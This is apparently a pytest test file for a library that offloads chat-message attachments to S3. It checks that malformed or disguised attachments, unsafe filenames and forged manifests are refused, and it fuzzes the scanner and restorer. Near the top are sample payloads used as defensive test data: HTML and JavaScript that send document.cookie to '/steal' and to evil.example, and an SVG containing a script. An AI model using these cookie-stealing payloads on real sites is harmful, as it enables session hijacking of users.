"""Bad input through the whole store: each gets a clear typed error naming the problem, and nothing is
written (no record, no object left behind). Plus fuzzing of the scanner and the restorer."""

from __future__ import annotations

import asyncio
import json
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import s3_bucket
from convex_offload.blobs.factory import open_bucket
from convex_offload.config import BucketConfig, OffloadConfig
from convex_offload.devservers.localstack import LocalStack
from convex_offload.errors import (
    AttachmentIntegrityError,
    AttachmentPolicyError,
    ConvexOffloadError,
    ForbiddenReferenceError,
    InvalidInputError,
    InvalidValueError,
    MalformedAttachmentError,
)
from convex_offload.offload.manifest import MANIFEST_KEY
from convex_offload.offload.offloader import Offloader
from convex_offload.offload.scan import scan
from convex_offload.offload.store import OffloadingStore
from convex_offload.store.models import Message, Thread
from convex_offload.store.store import ConvexStore
from media import b64, data_url, image_bytes

PNG = image_bytes("png", 40_000, seed=800)
HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>" * 300
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    + b" " * 30_000
)
JS = b"window.location='https://evil.example/'+document.cookie;\n" * 600


def part(data: Any, mime: str = "image/png", **extra: Any) -> dict[str, Any]:
    return {"type": "file", "mimeType": mime, "data": data, **extra}


CASES: list[tuple[str, dict[str, Any], type[Exception], str]] = [
    (
        "malformed base64",
        {"parts": [part("iVBORw0KGgo" + "*" * 40_001)]},
        MalformedAttachmentError,
        r"/parts/0/data: not valid base64",
    ),
    (
        "MIME line breaks",
        {"parts": [part("\n".join(b64(PNG)[i : i + 76] for i in range(0, 76 * 40, 76)))]},
        MalformedAttachmentError,
        r"multiple of 4|not valid",
    ),
    ("non-canonical padding bits", {"parts": [part("QUJ=")]}, MalformedAttachmentError, r"not canonical"),
    (
        "data URL lying about its type",
        {
            "parts": [
                {
                    "type": "file",
                    "url": data_url(image_bytes("jpeg", 40_000), "image/png"),
                    "mediaType": "image/png",
                }
            ]
        },
        AttachmentPolicyError,
        r"declared type 'image/png' but the bytes are 'image/jpeg'",
    ),
    ("HTML disguised as an image", {"parts": [part(b64(HTML))]}, AttachmentPolicyError, r"'text/html'"),
    (
        "SVG disguised as a PNG",
        {"experimental_attachments": [{"url": data_url(SVG, "image/png")}]},
        AttachmentPolicyError,
        r"'image/svg\+xml'",
    ),
    (
        "JavaScript disguised as a JPEG",
        {"parts": [part(b64(JS), "image/jpeg")]},
        AttachmentPolicyError,
        r"declared type 'image/jpeg'",
    ),
    ("zero-byte attachment", {"parts": [part("")]}, AttachmentPolicyError, r"zero-byte"),
    (
        "zero-byte data URL",
        {"parts": [{"type": "file", "url": "data:image/png;base64,", "mediaType": "image/png"}]},
        AttachmentPolicyError,
        r"zero-byte",
    ),
    (
        "filename with a slash",
        {"parts": [part(b64(PNG), filename="a/b.png")]},
        AttachmentPolicyError,
        r"path separator",
    ),
    ("filename with ..", {"parts": [part(b64(PNG), filename="..")]}, AttachmentPolicyError, r"relative path"),
    (
        "filename with a control character",
        {"parts": [part(b64(PNG), filename="a\x07.png")]},
        AttachmentPolicyError,
        r"control character",
    ),
    (
        "very long filename",
        {"parts": [part(b64(PNG), filename="x" * 400 + ".png")]},
        AttachmentPolicyError,
        r"over 255 bytes",
    ),
    (
        "deeply nested content",
        {"parts": [{"a": json.loads("[" * 80 + "1" + "]" * 80)}]},
        InvalidInputError,
        r"nested deeper than 64",
    ),
]


@pytest.fixture
def plain_config(local_convex: Any, localstack: LocalStack) -> OffloadConfig:
    return OffloadConfig(
        convex_url=local_convex.url,
        convex_admin_key=local_convex.admin_key,
        buckets={
            "images": s3_bucket(
                localstack, "images", prefix=f"bad-{uuid.uuid4().hex[:8]}/", max_object_bytes=100_000
            )
        },
    )


@pytest.mark.parametrize(("name", "content", "error", "pattern"), CASES, ids=[c[0] for c in CASES])
async def test_bad_input_is_refused_and_nothing_is_written(
    plain_config: OffloadConfig,
    store: ConvexStore,
    localstack: LocalStack,
    uid: Callable[[str], str],
    name: str,
    content: dict[str, Any],
    error: type[Exception],
    pattern: str,
) -> None:
    message = Message(
        id=uid("m"), thread_id=uid("t"), resource_id="u", role="user", content={"format": 2, **content}
    )
    async with OffloadingStore.connect(plain_config) as offloading:
        with pytest.raises(error, match=pattern) as caught:
            await offloading.memory.save_messages([message])
    assert message.id in str(caught.value) or isinstance(caught.value, InvalidInputError), name
    assert await store.memory.list_messages_by_id([message.id]) == []
    prefix = plain_config.buckets["images"].prefix
    assert localstack.s3_client().list_objects_v2(Bucket="images", Prefix=prefix).get("KeyCount", 0) == 0


async def test_payload_over_the_buckets_max_size_is_refused(
    plain_config: OffloadConfig, store: ConvexStore, uid: Callable[[str], str]
) -> None:
    big = image_bytes("png", 300_000, seed=801)
    message = Message(
        id=uid("m"),
        thread_id=uid("t"),
        resource_id="u",
        role="user",
        content={"format": 2, "parts": [part(b64(big))]},
    )
    async with OffloadingStore.connect(plain_config) as offloading:
        with pytest.raises(AttachmentPolicyError, match=r"over bucket 'images'\'s limit of 100000"):
            await offloading.memory.save_messages([message])
    assert await store.memory.list_messages_by_id([message.id]) == []


async def test_metadata_keys_convex_refuses_fail_before_sending(
    plain_config: OffloadConfig, store: ConvexStore, uid: Callable[[str], str]
) -> None:
    thread = Thread(id=uid("t"), resource_id="u", metadata={"ok": {"$gt": 1}})
    async with OffloadingStore.connect(plain_config) as offloading:
        with pytest.raises(InvalidValueError, match=r"starts with a '\$'"):
            await offloading.memory.save_thread(thread)
        with pytest.raises(InvalidValueError, match="printable ASCII"):
            await offloading.memory.save_thread(thread.model_copy(update={"metadata": {"bad\nkey": 1}}))
    assert await store.memory.get_thread_by_id(thread.id) is None


async def test_forged_manifests_are_refused_on_write_and_on_read(
    plain_config: OffloadConfig, store: ConvexStore, uid: Callable[[str], str]
) -> None:
    thread = uid("t")
    async with OffloadingStore.connect(plain_config) as offloading:
        alice = Message(
            id=uid("m"),
            thread_id=thread,
            resource_id="alice",
            role="user",
            content={"format": 2, "parts": [part(b64(PNG))]},
        )
        await offloading.memory.save_messages([alice])
        [stored] = await store.memory.list_messages_by_id([alice.id])
        # Mallory copies Alice's stored content (URL and manifest) into a message of her own.
        theft = stored.model_copy(update={"id": uid("m"), "resource_id": "mallory"})
        with pytest.raises(ForbiddenReferenceError, match="tenant"):
            await offloading.memory.save_messages([theft])
        assert await store.memory.list_messages_by_id([theft.id]) == []
        # Written straight to Convex, it is still refused when read through the library.
        await store.memory.save_messages([theft])
        with pytest.raises(ForbiddenReferenceError, match="tenant"):
            await offloading.memory.list_messages_by_id([theft.id])
        outside = stored.model_copy(update={"id": uid("m")}, deep=True)
        outside.content["metadata"][MANIFEST_KEY]["refs"][0]["bucket"] = "somewhere-else"
        await store.memory.save_messages([outside])
        with pytest.raises(ForbiddenReferenceError, match="not configured"):
            await offloading.memory.list_messages_by_id([outside.id])


async def test_manifest_whose_sha256_does_not_match_the_object(
    plain_config: OffloadConfig, store: ConvexStore, uid: Callable[[str], str]
) -> None:
    async with OffloadingStore.connect(plain_config) as offloading:
        message = Message(
            id=uid("m"),
            thread_id=uid("t"),
            resource_id="u",
            role="user",
            content={"format": 2, "parts": [part(b64(PNG))]},
        )
        await offloading.memory.save_messages([message])
        [stored] = await store.memory.list_messages_by_id([message.id])
        ref = stored.content["metadata"][MANIFEST_KEY]["refs"][0]
        other = image_bytes("png", 40_000, seed=802)
        other_sha = __import__("hashlib").sha256(other).hexdigest()
        # A manifest that names another object of the same tenant, with the first one's size:
        # the key follows the sha, so it points at an object whose bytes do not hash to it.
        ref["sha256"] = other_sha
        ref["key"] = offloading.offloader.key_for("images", "u", other_sha)
        # ...and, as a forger must, the URL this library writes for that key, in the ref and its place.
        ref["url"] = await offloading.buckets["images"].reference_url(ref["key"])
        stored.content["parts"][0]["data"] = ref["url"]
        bucket = offloading.buckets["images"]
        await bucket.put(
            ref["key"],
            PNG,
            content_type="image/png",
            sha256=__import__("hashlib").sha256(PNG).hexdigest(),
            disposition=None,
        )
        tampered = stored.model_copy(update={"id": uid("m")})
        await store.memory.save_messages([tampered])
        async with OffloadingStore.connect(plain_config) as fresh:
            with pytest.raises(AttachmentIntegrityError, match="sha256"):
                await fresh.memory.list_messages_by_id([tampered.id])


# --- fuzzing ----------------------------------------------------------------------------------

json_leaf = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.text(),
    st.sampled_from(
        [
            "data:image/png;base64,",
            "data:;base64,AAAA",
            "data:image/png;base64,@@@@",
            "https://x/y",
            b64(PNG)[:400],
        ]
    ),
)
json_tree = st.recursive(
    json_leaf,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(
            st.sampled_from(["data", "url", "image", "type", "mimeType", "text", "metadata", "x"])
            | st.text(max_size=5),
            children,
            max_size=4,
        ),
    ),
    max_leaves=20,
)


@settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(tree=json_tree)
def test_the_offloader_only_ever_raises_typed_errors(tmp_path: Path, tree: Any) -> None:
    config = OffloadConfig(
        buckets={"b": BucketConfig(provider="local", path=tmp_path / "b")}, inline_threshold=1
    )
    offloader = Offloader(config, {"b": open_bucket("b", config.buckets["b"])})
    scan(tree, min_chars=4, bare_min_chars=8)
    root = {"format": 2, "parts": [tree]}
    before = json.dumps(root)
    try:
        rewritten = asyncio.run(offloader.offload(root, holder=("metadata",), tenant="t", where="fuzz"))
    except ConvexOffloadError:
        return
    assert json.dumps(root) == before
    restored = asyncio.run(
        offloader.restore(json.loads(json.dumps(rewritten.root)), holder=("metadata",), tenant="t")
    )
    assert json.dumps(restored) == before


manifest_ref = st.fixed_dictionaries(
    {
        "path": st.text(max_size=20),
        "form": st.sampled_from(["base64", "data_url", "embedded", "other"]),
        "bucket": st.sampled_from(["b", "x", ""]),
        "key": st.text(max_size=80),
        "size": st.integers(min_value=-5, max_value=10**9),
        "sha256": st.text(alphabet="0123456789abcdef", min_size=0, max_size=64),
        "sniffed_type": st.text(max_size=10),
        "url": st.text(max_size=30),
    },
    optional={"span": st.lists(st.integers(), max_size=3), "header": st.text(max_size=10)},
)


@settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(refs=st.lists(manifest_ref, max_size=3), extra=json_tree)
def test_the_restorer_refuses_forged_manifests_with_typed_errors(
    tmp_path: Path, refs: list[dict[str, Any]], extra: Any
) -> None:
    config = OffloadConfig(buckets={"b": BucketConfig(provider="local", path=tmp_path / "b")})
    offloader = Offloader(config, {"b": open_bucket("b", config.buckets["b"])})
    root = {"parts": [extra], "metadata": {MANIFEST_KEY: {"v": 1, "refs": refs}}}
    try:
        asyncio.run(offloader.restore(root, holder=("metadata",), tenant="t"))
    except ConvexOffloadError:
        return
    assert MANIFEST_KEY not in root.get("metadata", {}), "a manifest is either refused or consumed"
